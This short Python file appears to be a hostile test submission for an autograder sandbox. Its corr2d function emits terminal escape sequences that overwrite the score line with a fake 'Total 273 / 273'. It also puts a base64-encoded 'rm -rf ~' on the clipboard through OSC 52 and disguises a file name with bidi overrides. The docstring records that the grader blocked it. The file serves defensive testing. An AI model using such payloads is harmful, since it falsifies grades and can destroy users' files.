"""Prints and raises terminal escape sequences to take over the grader's terminal: colour,
cursor moves that overwrite the score line, an OSC window title, an OSC 52 clipboard write,
conceal, a carriage return that rewrites the line, and bidi overrides that reorder text.

bwrap: blocked
process: blocked
reports: safe
"""
import sys

ESC = "\x1b"
SEQUENCES = (f"{ESC}[31;1mRED{ESC}[0m {ESC}[2J{ESC}[H{ESC}[1A{ESC}[2K"
             f"{ESC}]0;pwned title\x07{ESC}]52;c;cm0gLXJmIH4=\x07{ESC}[8mhidden{ESC}[28m"
             f"\rTotal 273 / 273\u202egnp.exe\u2066x\u2069 {ESC}P+q\x9b31m")


def corr2d(X, K):
    print(SEQUENCES)
    sys.stdout.write(SEQUENCES)
    raise ValueError(SEQUENCES)
